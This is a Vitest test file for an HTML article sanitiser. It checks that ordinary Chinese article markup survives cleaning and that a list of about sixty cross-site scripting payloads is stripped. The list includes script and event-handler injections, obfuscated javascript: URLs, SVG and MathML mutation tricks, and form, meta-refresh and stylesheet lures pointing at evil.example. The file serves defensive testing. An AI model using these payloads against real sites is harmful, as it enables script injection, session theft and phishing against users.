import { describe, expect, it } from 'vitest';
import { cleanArticle } from './rules.ts';

describe('an article keeps', () => {
  it.each([
    '<h2>标题</h2><p>正文<br />第二行</p>',
    '<p><strong>重</strong><em>斜</em><u>线</u>H<sub>2</sub>O</p>',
    '<ul><li>一</li><li>二</li></ul><ol><li>三</li></ol>',
    '<table><thead><tr><th colspan="2">表头</th></tr></thead><tbody><tr><td rowspan="2">格</td></tr></tbody></table>',
    '<blockquote>引用</blockquote><hr />',
    '<figure><img src="/files/img/a-800.webp" alt="仓库" width="800" height="400" /><figcaption>图</figcaption></figure>',
    '<img src="https://cdn.example.com/a.png" alt="" />',
    '<a href="/list?category_id=3&amp;page=2">去看看</a>',
  ])('%s', (html) => {
    expect(cleanArticle(html)).toBe(html);
  });

  it('and sends links to other sites off without a trace', () => {
    expect(cleanArticle('<a href="https://www.nmpa.gov.cn/" onclick="x()">药监局</a>')).toBe(
      '<a href="https://www.nmpa.gov.cn/" rel="noopener noreferrer nofollow" target="_blank">药监局</a>',
    );
  });

  it('first headings as second ones, words of unknown elements', () => {
    expect(cleanArticle('<h1>大</h1><div class="x"><font color="red">字</font></div>')).toBe('<h2>大</h2>字');
  });
});

/** Nothing that runs, loads or frames may be left of these; written so that a browser would take them. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/files/a.png" onerror="alert(1)">',
  '<img/src="/files/a.png"/onload=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="http://evil.example/pixel.gif">',
  '<img src="/files/../api/user/logout">',
  '<img srcset="https://evil.example/a 1x" src="/files/a.png">',
  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https:\\\\evil.example" style="position:fixed">x</a>',
  '<a href="/list" onmouseover="alert(1)" style="background:url(javascript:alert(1))">x</a>',
  '<a href=\'/list" onfocus="alert(1)" autofocus="\'>x</a>',
  '<a href="/list" target="_top" ping="https://evil.example">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="background:url(https://evil.example/a)">x</p>',
  '<p id="root" class="x" data-x="y" onclick="alert(1)">x</p>',
  '<table background="javascript:alert(1)"><td background="https://evil.example">x</td></table>',
  '<td colspan="9999999999" rowspan="1 onclick=alert(1)">x</td>',
  '<video src="https://evil.example/a.mp4" onloadstart=alert(1)><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>x</body>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<template><script>alert(1)</script></template>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<img src="/files/a.png" alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>"><script>alert(1)</script>',
];

/** What may stand in the result: the allowed elements with the allowed attributes, values without quotes or brackets. */
const TAG = new RegExp(
  '^<(?:' +
    '/?(?:h[234]|p|blockquote|figure|figcaption|strong|b|em|i|u|s|sub|sup|ul|ol|li|table|caption|thead|tbody|tr|th|td)' +
    '|br /|hr /|a|/a' +
    '|(?:th|td)(?: (?:col|row)span="\\d{1,2}")+' +
    '|a href="(?:/[^/\\\\"<>][^"<>]*|/|https?://[^"<>\\\\]+" rel="noopener noreferrer nofollow" target="_blank)"' +
    '|img src="(?:/files/|https://)[^"<>]*" alt="[^"<>]*"(?: (?:width|height)="\\d{1,4}")* /' +
    ')>$',
);

describe('an article loses', () => {
  it.each(ATTACKS)('%s', (attack) => {
    const clean = cleanArticle(attack);
    const tags = clean.match(/<[^>]*>?/g) ?? [];
    expect(tags.filter((tag) => !TAG.test(tag))).toEqual([]);
    // Cleaning again changes nothing: what is stored is what a browser reads.
    expect(cleanArticle(clean)).toBe(clean);
  });
});
